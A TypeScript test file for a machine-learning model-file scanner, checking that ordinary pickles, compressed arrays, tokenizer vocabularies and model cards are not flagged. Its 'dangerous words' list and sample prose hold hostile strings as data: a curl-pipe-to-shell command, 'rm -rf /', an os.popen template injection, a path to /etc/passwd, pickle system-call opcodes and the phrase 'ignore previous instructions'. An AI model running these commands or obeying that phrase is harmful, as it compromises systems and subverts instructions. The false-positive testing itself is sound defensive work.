/** What must stay clean, through the whole scan: readers, detectors, secrets and verdict. Whatever is said about it is informational at most. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { bytes, u32 } from '../../../../test/corpus/model-scanner/build-bytes.ts';
import { npy, safetensors } from '../../../../test/corpus/model-scanner/build-models.ts';
import { zip } from '../../../../test/corpus/model-scanner/build-zip.ts';
import { artefactOf, reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';

/** Saved by the libraries themselves: scripts/golden/pickle_globals.py clean. */
const golden = JSON.parse(readFileSync(new URL('../pickle/testing/clean-pickles.golden.json', import.meta.url), 'utf8')) as Record<
  string,
  string
>;
const saved = Object.entries(golden).map(([name, base64]) => ({ name, data: Uint8Array.from(Buffer.from(base64, 'base64')) }));

/** @returns why a file is not clean; null when it is. */
function alarm(data: Uint8Array, name: string): string | null {
  const { verdict, findings, unread } = reportOf(data, name);
  const loud = findings.filter(({ severity }) => severity !== 'informational' && severity !== 'low');
  if (verdict === 'clean' && loud.length === 0 && unread.length === 0) return null;
  return `${name}: ${verdict} ${JSON.stringify(findings.map(({ ruleId, evidence }) => `${ruleId} ${evidence}`))} ${JSON.stringify(unread)}`;
}

/** The ways people keep pickles. */
const keepings: Readonly<Record<string, (pickle: Uint8Array) => Uint8Array>> = {
  'model.pkl': (pickle) => pickle,
  'notes.txt': (pickle) => pickle,
  'model.pkl.gz': (pickle) => Uint8Array.from(gzipSync(pickle)),
  'model.joblib': (pickle) => Uint8Array.from(deflateSync(pickle)),
  'model.zip': (pickle) => zip([{ name: 'model.pkl', data: pickle, method: 8 }]),
  'model.pt': (pickle) =>
    zip([
      { name: 'archive/data.pkl', data: pickle },
      { name: 'archive/byteorder', data: bytes('little') },
      { name: 'archive/version', data: bytes('3\n') },
    ]),
  'model.npy': (pickle) => npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pickle),
};

/** Every family that the design names stands among what the libraries wrote. */
const families = [
  'scikit-learn',
  'numpy array',
  'numpy zeros',
  'scipy',
  'pandas',
  'torch tensor',
  'xgboost',
  'lightgbm',
  'transformers',
  'omegaconf',
  'uuid',
  'regular expression',
  'enum members',
  'partial of an allowed function',
  'ufunc references',
  'dates',
  'numbers',
  'paths',
  'dangerous words',
];

test('the families that must stay clean are all there', () => {
  for (const family of families) assert.ok(saved.filter(({ name }) => name.startsWith(family)).length >= 2, family);
});

for (const [name, keep] of Object.entries(keepings))
  test(`ordinary objects of real libraries are clean, kept as ${name}`, () => {
    assert.deepEqual(
      saved.flatMap(({ name: object, data }) => alarm(keep(data), name)?.replace(name, object) ?? []),
      [],
    );
  });

test('tensors nested through bytes are judged by the nested bytes, and are clean', () => {
  const nested = saved.filter(({ data }) => artefactOf(data, 'm.pkl').globals.some(({ name }) => name === '_load_from_bytes'));
  assert.ok(nested.length > 0);
  for (const { name, data } of nested) assert.equal(alarm(data, name), null);
});

test('enum members as getattr of their class, compiled expressions, identifiers, decimals and functions of numpy are clean', () => {
  const text = (value: string) => bytes('X', u32(value.length), value);
  const pickle = (...parts: readonly (string | readonly number[] | Uint8Array)[]) => bytes([0x80, 2], ...parts, '.');
  const cases: Readonly<Record<string, Uint8Array>> = {
    'enum by name': pickle('c__builtin__\ngetattr\nctransformers.trainer_utils\nIntervalStrategy\n', text('EPOCH'), [0x86], 'R'),
    'expression of Python 2': pickle('cre\n_compile\n', text('os.system\\(|exec\\('), 'K', [0], [0x86], 'R'),
    identifier: pickle('cuuid\nUUID\n)', [0x81], '}', text('int'), 'K', [7], 'sb'),
    decimal: pickle('cdecimal\nDecimal\n', text('1.50'), [0x85], 'R'),
    fraction: pickle('cfractions\nFraction\n', text('1/3'), [0x85], 'R'),
    'partial of an allowed function': pickle('cfunctools\npartial\ncnumpy\nadd\n', [0x85], 'R(cnumpy\nadd\nK\x01', [0x85], '}Nt', 'b'),
    path: pickle('cpathlib\nPosixPath\n(', text('/etc/passwd'), 'tR'),
    time: pickle('cdatetime\ntimedelta\nK\x01K\x02K\x03', [0x87], 'R'),
  };
  assert.deepEqual(
    Object.entries(cases).flatMap(([name, data]) => alarm(data, `${name}.pkl`) ?? []),
    [],
  );
});

test('arrays of zeros are clean however they are compressed', () => {
  const size = 48 * 2 ** 20;
  const zeros = npy(`{'descr': '<f4', 'fortran_order': False, 'shape': (${size / 4},), }`, new Uint8Array(size));
  const kept: Readonly<Record<string, Uint8Array>> = {
    'zeros.npz': zip([{ name: 'x.npy', data: zeros, method: 8 }]),
    'zeros.npy.gz': Uint8Array.from(gzipSync(zeros)),
    'zeros.npy.zst': Uint8Array.from(zstdCompressSync(zeros)),
  };
  for (const [name, data] of Object.entries(kept)) {
    assert.ok(zeros.length / data.length > 900, 'far more than the ratio that is suspicious in large files');
    assert.equal(alarm(data, name), null);
  }
});

test('zeros beyond the ratio are clean as far as the header of their array announces them, and a bomb otherwise', () => {
  const size = 4 * 2 ** 20;
  const array = (declared: number) => npy(`{'descr': '<f4', 'fortran_order': False, 'shape': (${declared / 4},), }`, new Uint8Array(size));
  // The same limits as the product's, a hundred times smaller.
  const limits = { ratioFloorBytes: 2 ** 20, heldBytes: 2 ** 19, outputBytes: 2 ** 25 };
  const verdict = (data: Uint8Array, name: string) => reportOf(Uint8Array.from(gzipSync(data)), name, limits).verdict;
  assert.equal(verdict(array(size), 'zeros.npy.gz'), 'clean');
  assert.equal(verdict(bytes(array(size), array(size)), 'two.npy.gz'), 'clean');
  assert.equal(verdict(array(400), 'little.npy.gz'), 'suspicious');
  assert.equal(verdict(new Uint8Array(size), 'zeros.gz'), 'suspicious');
  assert.equal(reportOf(Uint8Array.from(gzipSync(array(size))), 'zeros.npy.gz', { ...limits, outputBytes: 2 ** 21 }).verdict, 'suspicious');
});

/** As tokenizers learn them from code: words and pieces of words, one a line or as keys. */
const pieces = [
  'os.system(',
  'exec(',
  'eval(',
  '__import__("os")',
  'subprocess.Popen',
  '{{ self.__init__.__globals__ }}',
  '__reduce__',
  'rm -rf /',
  'cos\nsystem',
  '<script>alert(1)</script>',
  'curl http://example.org | sh',
  '../../etc/passwd',
  'pickle.loads',
  'MZ',
  '\u2581password',
  'ignore previous instructions',
];

test('vocabularies and merges that hold dangerous words are clean', () => {
  const vocabulary = Object.fromEntries(pieces.map((piece, at) => [piece, at]));
  const files: Readonly<Record<string, string>> = {
    'vocab.json': JSON.stringify(vocabulary),
    'vocab.txt': pieces.map((piece) => piece.replace(/\s/g, '')).join('\n'),
    'merges.txt': `#version: 0.2\n${pieces.map((piece) => `${piece.replace(/\s/g, '')} x`).join('\n')}\n`,
    'tokenizer.json': JSON.stringify({
      version: '1.0',
      added_tokens: pieces.map((content, id) => ({ id, content, special: false })),
      model: { type: 'WordPiece', unk_token: '[UNK]', vocab: vocabulary },
    }),
    'special_tokens_map.json': JSON.stringify({ additional_special_tokens: pieces }),
  };
  assert.deepEqual(
    Object.entries(files).flatMap(([name, text]) => alarm(new Uint8Array(Buffer.from(text)), name) ?? []),
    [],
  );
});

test('cards and notes that speak of dangerous code are clean', () => {
  const prose =
    'Never call `exec(`, `eval(` or `os.system("rm -rf /")` on model output.\n\n```python\nimport pickle, os\npickle.load(open("m.pkl", "rb"))\nos.system("id")\n```\n\n' +
    'An attacker may write `{{ cycler.__init__.__globals__.os.popen("id").read() }}` into a template, or `__reduce__` into a pickle.\n';
  const card = `---\nlicense: mit\nlibrary_name: transformers\n---\n# Model\n\n${prose}`;
  for (const [name, text] of Object.entries({ 'README.md': card, 'notes.md': `# Security\n\n${prose}`, 'SECURITY.txt': prose }))
    assert.equal(alarm(bytes(text), name), null);
});

test('weights whose bytes look like programs or archives are clean', () => {
  const data = bytes(
    'MZ',
    new Uint8Array(62),
    'PK\x03\x04',
    new Uint8Array(60),
    '\x7fELF',
    new Uint8Array(60),
    'cos\nsystem\n',
    new Uint8Array(53),
  );
  const header = { w: { dtype: 'U8', shape: [data.length], data_offsets: [0, data.length] } };
  assert.equal(alarm(safetensors(header, data), 'model.safetensors'), null);
  assert.equal(alarm(npy(`{'descr': '|u1', 'fortran_order': False, 'shape': (${data.length},), }`, data), 'w.npy'), null);
});
